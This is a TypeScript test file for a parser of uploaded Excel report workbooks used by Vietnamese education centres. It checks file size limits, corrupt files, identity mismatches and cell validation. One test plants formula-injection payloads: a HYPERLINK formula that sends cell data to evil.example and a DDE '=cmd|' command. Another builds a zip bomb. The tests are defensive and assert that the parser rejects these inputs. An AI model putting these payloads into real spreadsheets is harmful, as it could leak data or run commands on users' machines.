import { randomBytes } from 'node:crypto';
import ExcelJS from 'exceljs';
import type { TemplateDefinition } from '@gdtx/domain';
import { buildWorkbook } from './build-workbook';
import { DEFAULT_MAX_BYTES, parseWorkbook } from './parse-workbook';
import { FIXTURE_EXPECTED, FIXTURE_META, GDTX_FIXTURE_TEMPLATE as T, fixtureValues } from './__fixtures__/gdtx-report.fixture';
import { MINIMAL_XLSX_PARTS, editWorkbook, makeZip, saveWorkbook, sheet } from './__fixtures__/workbook-helpers';
import type { CellProblem, ParseResult } from './types';

function errorsOf(r: ParseResult): CellProblem[] {
  if (r.ok) throw new Error('expected the upload to be rejected');
  return r.errors;
}

const codes = (r: ParseResult) => errorsOf(r).map((e) => e.code);

describe('parseWorkbook — file-level rejections', () => {
  let good: Buffer;
  beforeAll(async () => {
    good = await buildWorkbook(T, fixtureValues(), FIXTURE_META);
  });

  it('rejects an oversize file before parsing it', async () => {
    const r = await parseWorkbook(good, T, FIXTURE_EXPECTED, { maxBytes: good.length - 1 });
    expect(errorsOf(r)).toEqual([expect.objectContaining({ code: 'FILE_TOO_LARGE', sheet: null, cell: null, key: null })]);
    // Default limit: 5 MB, checked before the content (these bytes are not even a zip).
    const big = randomBytes(DEFAULT_MAX_BYTES + 1);
    expect(codes(await parseWorkbook(big, T, FIXTURE_EXPECTED))).toEqual(['FILE_TOO_LARGE']);
    expect(DEFAULT_MAX_BYTES).toBe(5 * 1024 * 1024);
    // The same file within the limit is accepted.
    expect((await parseWorkbook(good, T, FIXTURE_EXPECTED, { maxBytes: good.length })).ok).toBe(true);
  });

  it.each([
    ['random bytes', () => randomBytes(20_000)],
    ['an empty file', () => Buffer.alloc(0)],
    ['a CSV renamed to .xlsx', () => Buffer.from('\ufeffTT;Chỉ tiêu;Giá trị\n1;Số thí sinh dự thi;2279\n', 'utf8')],
    ['a legacy .xls (OLE2)', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), randomBytes(4000)])],
    ['a zip that is not a workbook', () => makeZip([{ name: 'hello.txt', data: Buffer.from('xin chào') }])],
    ['a zip with workbook-looking names but garbage content', () => makeZip(MINIMAL_XLSX_PARTS)],
  ])('rejects %s as CORRUPT_FILE without throwing', async (_name, make) => {
    const r = await parseWorkbook(make(), T, FIXTURE_EXPECTED);
    const errors = errorsOf(r);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ code: 'CORRUPT_FILE', sheet: null, cell: null });
    expect(errors[0].messageVi).toMatch(/Tệp|tệp/);
  });

  it('rejects truncated uploads as CORRUPT_FILE', async () => {
    for (const cut of [10, 500, Math.floor(good.length / 2), good.length - 1]) {
      expect(codes(await parseWorkbook(good.subarray(0, cut), T, FIXTURE_EXPECTED))).toEqual(['CORRUPT_FILE']);
    }
  });

  it('rejects a zip bomb as FILE_TOO_LARGE', async () => {
    const bomb = makeZip([...MINIMAL_XLSX_PARTS, { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(60 * 1024 * 1024) }]);
    expect(bomb.length).toBeLessThan(200 * 1024);
    expect(codes(await parseWorkbook(bomb, T, FIXTURE_EXPECTED))).toEqual(['FILE_TOO_LARGE']);
  });

  it('does not throw for a non-buffer argument', async () => {
    const r = await parseWorkbook('not a buffer' as unknown as Buffer, T, FIXTURE_EXPECTED);
    expect(codes(r)).toEqual(['CORRUPT_FILE']);
  });

  it('accepts a Uint8Array as well as a Buffer', async () => {
    const u8 = new Uint8Array(good.buffer.slice(good.byteOffset, good.byteOffset + good.length));
    expect((await parseWorkbook(u8 as unknown as Buffer, T, FIXTURE_EXPECTED)).ok).toBe(true);
  });

  it('rejects an ordinary workbook that was not downloaded from the system (no _meta)', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Thi cấp chứng chỉ').getCell('C7').value = 2279;
    const r = await parseWorkbook(await saveWorkbook(wb), T, FIXTURE_EXPECTED);
    expect(errorsOf(r)).toEqual([expect.objectContaining({ code: 'MISSING_SHEET', sheet: '_meta' })]);
  });

  it('rejects an unknown workbook format version', async () => {
    const buf = await editWorkbook(good, (wb) => {
      sheet(wb, '_meta').getCell('C1').value = '2';
    });
    expect(errorsOf(await parseWorkbook(buf, T, FIXTURE_EXPECTED))).toEqual([
      expect.objectContaining({ code: 'UNKNOWN_VERSION', sheet: '_meta', cell: 'C1' }),
    ]);
  });

  it('rejects a _meta sheet without the format marker', async () => {
    const buf = await editWorkbook(good, (wb) => {
      sheet(wb, '_meta').getCell('B1').value = 'something else';
    });
    expect(codes(await parseWorkbook(buf, T, FIXTURE_EXPECTED))).toEqual(['WRONG_TEMPLATE']);
  });
});

describe('parseWorkbook — identity checks', () => {
  it('rejects another template code', async () => {
    const other: TemplateDefinition = { ...T, code: 'TEST_LANGUAGE_QUARTERLY' };
    const buf = await buildWorkbook(other, {}, { ...FIXTURE_META, templateCode: other.code });
    const errors = errorsOf(await parseWorkbook(buf, T, FIXTURE_EXPECTED));
    expect(errors).toEqual([expect.objectContaining({ code: 'WRONG_TEMPLATE', sheet: '_meta', cell: 'B4' })]);
    expect(errors[0].messageVi).toContain('TEST_LANGUAGE_QUARTERLY');
  });

  it('rejects another version of the same template', async () => {
    const v2: TemplateDefinition = { ...T, version: 2 };
    const buf = await buildWorkbook(v2, fixtureValues(), { ...FIXTURE_META, templateVersion: 2 });
    const errors = errorsOf(await parseWorkbook(buf, T, FIXTURE_EXPECTED));
    expect(errors).toEqual([expect.objectContaining({ code: 'WRONG_TEMPLATE', cell: 'B5' })]);
    expect(errors[0].messageVi).toContain('phiên bản 2');
    expect(errors[0].messageVi).toContain('phiên bản 3');
  });

  it('rejects a workbook of another centre', async () => {
    const buf = await buildWorkbook(T, fixtureValues(), { ...FIXTURE_META, centreId: 'other-centre', centreName: 'Trung tâm GDTX tỉnh' });
    const errors = errorsOf(await parseWorkbook(buf, T, FIXTURE_EXPECTED));
    expect(errors).toEqual([expect.objectContaining({ code: 'WRONG_CENTRE', sheet: '_meta', cell: 'B2' })]);
    expect(errors[0].messageVi).toContain('Trung tâm GDTX tỉnh');
  });

  it('rejects a workbook of another period', async () => {
    const buf = await buildWorkbook(T, fixtureValues(), { ...FIXTURE_META, periodCode: '2023-2024-HK1', periodLabelVi: 'Học kỳ I năm học 2023-2024' });
    const errors = errorsOf(await parseWorkbook(buf, T, FIXTURE_EXPECTED));
    expect(errors).toEqual([expect.objectContaining({ code: 'WRONG_PERIOD', cell: 'B6' })]);
    expect(errors[0].messageVi).toContain('Học kỳ I năm học 2023-2024');
  });

  it('reports every identity mismatch at once', async () => {
    const buf = await buildWorkbook(T, fixtureValues(), { ...FIXTURE_META, centreId: 'x', periodCode: 'y' });
    expect(codes(await parseWorkbook(buf, T, FIXTURE_EXPECTED))).toEqual(['WRONG_CENTRE', 'WRONG_PERIOD']);
  });

  it('compares against the expected identity from the request, not what the file claims', async () => {
    const buf = await buildWorkbook(T, fixtureValues(), FIXTURE_META);
    expect(codes(await parseWorkbook(buf, T, { ...FIXTURE_EXPECTED, centreId: 'logged-in-centre' }))).toEqual(['WRONG_CENTRE']);
    expect(codes(await parseWorkbook(buf, T, { ...FIXTURE_EXPECTED, templateCode: 'OTHER' }))).toEqual(['WRONG_TEMPLATE']);
  });
});

describe('parseWorkbook — cell problems', () => {
  let good: Buffer;
  beforeAll(async () => {
    good = await buildWorkbook(T, fixtureValues(), FIXTURE_META);
  });

  const withEdits = (edit: (wb: ExcelJS.Workbook) => void) => editWorkbook(good, edit).then((b) => parseWorkbook(b, T, FIXTURE_EXPECTED));

  it('names the sheet, the cell address and the Vietnamese label for text in an integer cell', async () => {
    const r = await withEdits((wb) => {
      sheet(wb, 'Thi cấp chứng chỉ').getCell('C7').value = 'abc';
    });
    expect(errorsOf(r)).toEqual([
      {
        sheet: 'Thi cấp chứng chỉ',
        cell: 'C7',
        key: 'exam_candidates',
        code: 'INVALID_VALUE',
        messageVi: "Ô C7 (trang 'Thi cấp chứng chỉ'): 'abc' không phải số nguyên — Số thí sinh dự thi",
        messageEn: "Cell C7 (sheet 'Thi cấp chứng chỉ'): 'abc' is not a whole number — Number of candidates",
      },
    ]);
  });

  it('rejects a formula in an input cell, even one that evaluates to a valid number', async () => {
    const r = await withEdits((wb) => {
      sheet(wb, 'Thi cấp chứng chỉ').getCell('C8').value = { formula: 'C7-9', result: 2270 };
    });
    expect(errorsOf(r)).toEqual([expect.objectContaining({ code: 'FORMULA_NOT_ALLOWED', sheet: 'Thi cấp chứng chỉ', cell: 'C8', key: 'exam_certified' })]);
  });

  it('rejects formula-injection text (=HYPERLINK, =cmd|, @, +) with the cell address', async () => {
    const r = await withEdits((wb) => {
      sheet(wb, 'Thi cấp chứng chỉ').getCell('C10').value = '=HYPERLINK("http://evil.example/?x="&C7,"Xem chi tiết")';
      sheet(wb, 'Thông tin chung').getCell('C6').value = "=cmd|' /C calc'!A0";
      sheet(wb, 'Thông tin chung').getCell('C9').value = '@SUM(1+1)';
      sheet(wb, 'Học viên GDTX cấp THPT').getCell('C11').value = '+1+1';
    });
    expect(errorsOf(r).map((e) => [e.code, e.sheet, e.cell])).toEqual([
      ['FORMULA_NOT_ALLOWED', 'Thông tin chung', 'C6'],
      ['FORMULA_NOT_ALLOWED', 'Thông tin chung', 'C9'],
      ['FORMULA_NOT_ALLOWED', 'Thi cấp chứng chỉ', 'C10'],
      ['FORMULA_NOT_ALLOWED', 'Học viên GDTX cấp THPT', 'C11'],
    ]);
  });

  it('collects all problems across sheets, in template order, without stopping at the first', async () => {
    const r = await withEdits((wb) => {
      const general = sheet(wb, 'Thông tin chung');
      general.getCell('C7').value = '31/02/2024';
      general.getCell('C8').value = 'Có thể';
      general.getCell('C9').value = 'Trung bình';
      const exam = sheet(wb, 'Thi cấp chứng chỉ');
      exam.getCell('C6').value = 3.5;
      exam.getCell('C7').value = -1;
      exam.getCell('C8').value = '-5';
      exam.getCell('C9').value = 120;
      const learners = sheet(wb, 'Học viên GDTX cấp THPT');
      learners.getCell('D12').value = 'hai trăm';
      learners.getCell('C13').value = { error: '#DIV/0!' } as ExcelJS.CellErrorValue;
    });
    const errors = errorsOf(r);
    expect(errors.map((e) => `${e.code} ${e.sheet}!${e.cell} ${e.key}`)).toEqual([
      'INVALID_VALUE Thông tin chung!C7 report_date',
      'INVALID_VALUE Thông tin chung!C8 teaches_upper_secondary',
      'INVALID_VALUE Thông tin chung!C9 facility_condition',
      'INVALID_VALUE Thi cấp chứng chỉ!C6 exam_councils',
      'INVALID_VALUE Thi cấp chứng chỉ!C7 exam_candidates',
      'INVALID_VALUE Thi cấp chứng chỉ!C8 exam_certified',
      'INVALID_VALUE Thi cấp chứng chỉ!C9 exam_pass_rate',
      'INVALID_VALUE Học viên GDTX cấp THPT!D12 learners.g11.female',
      'INVALID_VALUE Học viên GDTX cấp THPT!C13 learners.g12.male',
    ]);
    expect(errors[3].messageVi).toBe("Ô C6 (trang 'Thi cấp chứng chỉ'): '3,5' không phải số nguyên — Số hội đồng thi");
    expect(errors[4].messageVi).toContain('không được âm');
    expect(errors[7].messageVi).toBe(
      "Ô D12 (trang 'Học viên GDTX cấp THPT'): 'hai trăm' không phải số nguyên — Số học viên theo khối lớp và giới tính (Lớp 11, Nữ)",
    );
    for (const e of errors) expect(e.messageEn).toMatch(/^Cell [A-Z]+\d+ \(sheet '/);
  });

  it('reports a renamed or deleted section sheet and still checks the others', async () => {
    const r = await withEdits((wb) => {
      sheet(wb, 'Thi cấp chứng chỉ').name = 'Thi chứng chỉ';
      sheet(wb, 'Học viên GDTX cấp THPT').getCell('C11').value = 'abc';
    });
    expect(errorsOf(r).map((e) => [e.code, e.sheet, e.cell])).toEqual([
      ['MISSING_SHEET', 'Thi cấp chứng chỉ', null],
      ['INVALID_VALUE', 'Học viên GDTX cấp THPT', 'C11'],
    ]);
  });

  it('detects inserted rows (the key → cell map no longer matches the labels) instead of shifting values', async () => {
    const r = await withEdits((wb) => {
      const exam = sheet(wb, 'Thi cấp chứng chỉ');
      exam.unprotect();
      exam.spliceRows(6, 0, ['', 'Một hàng chèn thêm', 5]);
    });
    expect(errorsOf(r)).toEqual([expect.objectContaining({ code: 'WRONG_TEMPLATE', sheet: 'Thi cấp chứng chỉ', cell: 'B6', key: 'exam_councils' })]);
  });

  it('does not trust a tampered key → cell map', async () => {
    const r = await withEdits((wb) => {
      // Point exam_certified at the candidates cell: two keys on one cell.
      const meta = sheet(wb, '_meta');
      for (let row = 12; meta.getCell(row, 1).value; row++) {
        if (meta.getCell(row, 1).value === 'exam_certified') meta.getCell(row, 3).value = 'C7';
      }
    });
    expect(codes(r)).toEqual(['WRONG_TEMPLATE']);
  });
});
